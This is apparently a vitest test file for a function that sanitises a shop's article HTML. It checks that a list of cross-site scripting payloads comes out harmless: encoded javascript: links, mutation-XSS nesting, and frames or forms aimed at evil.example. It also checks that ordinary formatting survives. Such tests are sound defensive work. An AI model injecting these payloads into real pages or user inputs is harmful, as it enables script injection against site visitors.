import { describe, expect, it } from 'vitest';
import { sanitiseArticleHtml } from './sanitise-html.ts';

/** Nothing in the output may run script, load a frame or carry presentation the shop did not choose. */
function expectHarmless(html: string) {
  expect(html).not.toMatch(/<\s*(script|iframe|svg|math|object|embed|form|style|template|base|meta|link)/i);
  expect(html).not.toMatch(/\son[a-z]+\s*=/i);
  expect(html).not.toMatch(/\s(style|class)\s*=/i);
  expect(html).not.toMatch(/(javascript|vbscript|data)\s*:/i);
}

const PAYLOADS: [string, string][] = [
  ['script tag', '<p>hi</p><script>alert(1)</script>'],
  ['img onerror', '<img src="/uploads/a.webp" onerror="alert(1)">'],
  ['img with a script source', '<img src="javascript:alert(1)">'],
  ['a href javascript', '<a href="javascript:alert(1)">x</a>'],
  ['a href mixed case', '<a href="JaVaScRiPt:alert(1)">x</a>'],
  ['a href with an encoded tab', '<a href="jav&#x09;ascript:alert(1)">x</a>'],
  [
    'a href with encoded letters',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
  ],
  ['a href with leading spaces', '<a href="  javascript:alert(1)">x</a>'],
  ['vbscript', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data html link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['data image', '<img src="data:image/svg+xml;base64,PHN2Zz4=">'],
  ['svg onload', '<svg onload="alert(1)"><circle r="5"/></svg>'],
  [
    'math',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  ],
  ['style attribute', '<p style="background:url(javascript:alert(1))">x</p>'],
  ['class attribute', '<p class="hidden">x</p>'],
  ['iframe', '<iframe src="https://evil.example"></iframe>'],
  ['object', '<object data="https://evil.example/x.swf"></object>'],
  ['form', '<form action="https://evil.example"><input name="otp"></form>'],
  ['nested broken script', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['unclosed tag with a handler', '<p><a href="/x" onclick="alert(1)"'],
  ['comment hiding a script', '<!--<script>alert(1)</script>-->'],
  ['protocol-relative image', '<img src="//evil.example/a.png">'],
  ['style element', '<style>body{display:none}</style>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
];

describe('article HTML sanitising', () => {
  it.each(PAYLOADS)('makes a %s harmless', (_name, payload) => {
    expectHarmless(sanitiseArticleHtml(payload));
  });

  it('drops the script but keeps the text around it', () => {
    expect(sanitiseArticleHtml('<p>hi</p><script>alert(1)</script>')).toBe('<p>hi</p>');
  });

  it('drops an image whose source is not an upload or an https address', () => {
    expect(
      sanitiseArticleHtml('<p>a</p><img src="http://plain.example/a.png"><img src="uploads/x.png">'),
    ).toBe('<p>a</p>');
  });

  it('keeps ordinary formatting as it was', () => {
    const html = [
      '<h2>Heading</h2>',
      '<h3>Sub</h3>',
      '<h4>Minor</h4>',
      '<p>Some <strong>bold</strong>, <em>italic</em>, <u>under</u>, <s>struck</s> and <code>code</code>.<br />Next</p>',
      '<ul><li>one</li></ul>',
      '<ol><li>two</li></ol>',
      '<blockquote><p>quote</p></blockquote>',
      '<hr />',
      '<pre><code>x &lt; y</code></pre>',
      '<figure><img src="/uploads/blog/inline.webp" alt="A jar" width="800" height="450" loading="lazy" /><figcaption>Caption</figcaption></figure>',
      '<p><a href="/category/hair" title="Hair">site link</a> <a href="mailto:hi@example.com">mail</a></p>',
    ].join('');
    expect(sanitiseArticleHtml(html)).toBe(html);
  });

  it('marks links to other sites noopener and keeps no target', () => {
    expect(sanitiseArticleHtml('<a href="https://example.com" target="_blank" rel="opener">x</a>')).toBe(
      '<a href="https://example.com" rel="noopener noreferrer">x</a>',
    );
  });

  it('keeps an https image', () => {
    expect(sanitiseArticleHtml('<img src="https://cdn.example.com/a.png" alt="">')).toBe(
      '<img src="https://cdn.example.com/a.png" alt="" />',
    );
  });
});
